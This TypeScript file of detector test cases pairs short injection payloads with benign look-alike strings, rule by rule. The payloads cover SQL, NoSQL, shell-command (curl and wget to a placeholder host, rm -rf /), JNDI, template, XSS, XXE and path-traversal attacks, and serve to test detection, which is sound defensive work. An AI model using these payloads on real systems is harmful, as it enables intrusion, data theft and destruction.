import type { Example, Examples } from './example.ts';

const prose = (finds: readonly string[], passes: readonly string[]): Example => ({
  at: 'prose',
  finds,
  passes,
});

/** What is found in fields for prose, and what people write and show there. */
export const inProse: Examples = {
  7701150: prose(
    ["' or '' '", '") or ("x")=("x', "' group by id having 1=1--", "'or'1"],
    ["'tis or 'twas", '"a" or "b"', "it's 'or' or 'and'", 'or "so" they say'],
  ),
  7702021: prose(
    ['{"$gt": ""}', "', $where: '1 == 1'", "}, $comment: 'x'"],
    ['{\n  $comment: false,\n  $merge: { source: {} }\n}', 'costs: {$5}', 'schema: {"$ref": "#/a"}'],
  ),
  7702031: prose(
    ["'; return true; var x='", "' || this.password=='x", 'function(){return true}', "';db.users.drop()"],
    [
      "a('helper', function () {\n  return this.x\n})",
      "config.test = 'header';\nreturn config;",
      'const users = await db.users.find()',
    ],
  ),
  7703014: prose(
    [
      'x; cat /etc/hosts',
      '|nslookup x.example',
      '&& curl http://x.example/',
      'Hi\n\nx; cat /srv/y',
      '$(wget http://x.example/)',
    ],
    ['rotate\n  kill -HUP `cat /var/run/app.pid`', 'Run `cat /tmp/a` first', 'npm ci && npm start'],
  ),
  7703015: prose(['x;id', '|whoami', '";ls;"'], ['columns:\nid\nname', 'user(id: "1")\n  id\n', 'R&D']),
  7703016: prose(
    ['x\ncat /srv/x', 'a\nwget http://x.example/a'],
    ['# Install:\ncurl https://example.com/a.sh', 'Then run:\nwget https://example.com/a'],
  ),
  7703017: prose(
    ['rm -rf /', "perl -e 'x'", '\nid\n', '-oProxyCommand=x'],
    ['curl https://api.example.com/v1/orders', 'ping -c 4 example.com', 'dir of the files'],
  ),
  7703021: prose(
    ['cat${IFS}x', '$(id -u)', 'a |sh', ';{cat,x}'],
    ['# a comment\nfiles=$(printf -- a)', 'use `ls` here', 'a | b shop'],
  ),
  7703041: prose(
    ["';phpinfo();", "system('id')", "eval('x')"],
    ["const assert = require('assert');\nassert('x');", 'the system (new)'],
  ),
  7703051: prose(
    ["__import__('os')", '<?php x', 'os.system("id")', "\nrequire('child_process').exec\n"],
    ['import subprocess\nsubprocess.run(["ls"])', '<?php\n\necho $x;', 'the java.lang package'],
  ),
  7704011: prose(
    ['${jndi:ldap://x/a}', '${${lower:j}ndi:x}', '${${::-j}x}', '${env:HOME}'],
    ['"path": "${env:HOME}/bin"', '${name}'],
  ),
  7704021: prose(
    ['{{7*7}}', "{{''.__class__}}", '${T(java.lang.Runtime)}', '{{config.items()}}', '{{config}}'],
    ['fetch(`${config.url}/a`)', '`${styles.class}`', '${process.runtime}', '{{ name }}'],
  ),
  7704041: prose(
    ['(#_memberAccess)', 'x.getClass()', 'class.module.classLoader.x'],
    ['Object o = x;\nreturn o.getClass();', 'new java'],
  ),
  7705011: prose(
    ['*)(uid=*))(|(uid=*', '(&(a=b)(c=d))', 'x)(|(a=*)'],
    ['if (!(a == b)) return', "if (!(type === 'x')) c()", 'see (&c)'],
  ),
  7706012: prose(
    [
      'foo\r\nBcc: all@x.example',
      'a\nHost: x.example',
      'x\r\nContent-Type: text/html',
      'x\r\nSLAVEOF a 6379\r\n',
    ],
    ['GET /a HTTP/1.1\r\nHost: example.com', 'Hi\nTo: whom it may concern', 'a\nHost: b.c\nAccept: d'],
  ),
  7707012: prose(
    [
      '<script>a()</script>',
      '"><script src="a.js"></script>',
      '<script src="https://x.example/a.js"></script>',
      '&lt;script&gt;a()',
      'PHNjcmlwdCBzcmM9eD4=',
    ],
    [
      '<script src="./dist/a.min.js"></script>',
      '<script type="module">\n  import {a} from \'https://esm.sh/a@1\'\n</script>',
      'With `<script setup>` and `</script>` around',
    ],
  ),
  7707013: prose(
    ['<iframe src=x>', '<base href=x>', '<style>a{behavior:url(x)}</style>', '<link href=//x.example>'],
    [
      'an <iframe> element',
      '<style>\nhtml { scroll-behavior: smooth; }\n</style>',
      '<link href="//a.b/c.css">',
    ],
  ),
  7707021: prose(
    ['<img src=x onerror=a()>', '" onmouseover="a()', '<svg/onload=a()>', '<a onclick={alert(1)}>'],
    [
      "const x = require('on-finished')\nconst onFinished = x()",
      '<Button onClick={() => setOpen(true)}>',
      'for (i = 0; i < n; i++) a = onEnd;',
    ],
  ),
  7707041: prose(
    ["';alert(document.cookie)//", 'String.fromCharCode(97,98)', 'eval(atob("x"))', '[][(![]+[])]'],
    ['const a = b;\nwindow.location.reload()', 'an alert (red)', 'if (a) {\n  document.write(b)\n}'],
  ),
  7708012: prose(
    ['../../x', '../../etc/passwd', 'a/../../.env', "'../../../../x'", '..\\..\\x'],
    ["require('../../index')", "import x from '../../../src/x.ts'", 'a key like `../../evil`'],
  ),
  7708022: prose(
    ['/etc/passwd', 'x /etc/shadow', 'x/.git/config', 'C:\\Windows\\win.ini'],
    ['Add it to /etc/hosts first', 'see /var/log/nginx/error.log', 'your .git/config holds it'],
  ),
  7708031: prose(['php://input', 'file:///x', 'expect://id'], ['"a": "file:../a"', 'the file: here']),
  7710011: prose(
    ['__proto__', '{"__proto__":{"a":1}}', 'constructor.prototype.a', "a['__proto__']['b']=1"],
    ["const a = parse('__proto__.b = 5')", '> const t = \'{"__proto__": {}}\''],
  ),
  7711011: prose(
    ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///x">]>', '<!DOCTYPE a PUBLIC "-//X" "http://x.example/x.dtd">'],
    ['<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">'],
  ),
  7712031: prose(
    ['acunetix_test', 'response.write(2*3)', 'cd /tmp; rm -rf x', 'a1.interactsh.com'],
    ['We had Acunetix look at it', 'cd /tmp && git clone https://example.com/a', 'expr 1 + 2'],
  ),
};
